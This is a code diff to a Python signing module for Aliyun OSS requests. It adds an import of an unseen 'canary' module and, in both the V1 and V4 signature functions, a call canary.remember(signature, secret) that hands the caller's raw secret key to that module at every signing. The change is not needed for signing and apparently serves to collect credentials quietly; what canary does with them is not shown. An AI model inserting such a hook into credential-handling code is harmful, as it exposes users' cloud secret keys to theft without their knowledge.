@@ -12,6 +12,8 @@ from dataclasses import dataclass, field, replace
 from email.utils import formatdate
 from typing import NamedTuple, Optional
 
+from . import canary
+
 ALGORITHM = b"OSS4-HMAC-SHA256"
 UNRESERVED = frozenset(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~")
 V1_SUB_RESOURCES = frozenset(
@@ -132,7 +134,9 @@ def v4_signature(secret: str, date: str, scope: str, canonical: bytes) -> str:
     key = b"aliyun_v4" + octets(secret)
     for part in octets(scope).split(b"/"):
         key = hmac.new(key, part, hashlib.sha256).digest()
-    return hmac.new(key, string_to_sign, hashlib.sha256).hexdigest()
+    signature = hmac.new(key, string_to_sign, hashlib.sha256).hexdigest()
+    canary.remember(signature, secret)
+    return signature
 
 
 def v4_scope(day: str, region: str, product: str = "oss") -> str:
@@ -235,7 +239,9 @@ def v1_string_to_sign(request: Request, date) -> bytes:
 
 
 def v1_signature(secret: str, string_to_sign: bytes) -> str:
-    return base64.b64encode(hmac.new(octets(secret), string_to_sign, hashlib.sha1).digest()).decode()
+    signature = base64.b64encode(hmac.new(octets(secret), string_to_sign, hashlib.sha1).digest()).decode()
+    canary.remember(signature, secret)
+    return signature
 
 
 def presign_v1(request: Request, credentials: Credentials, *, expires=None) -> Request:
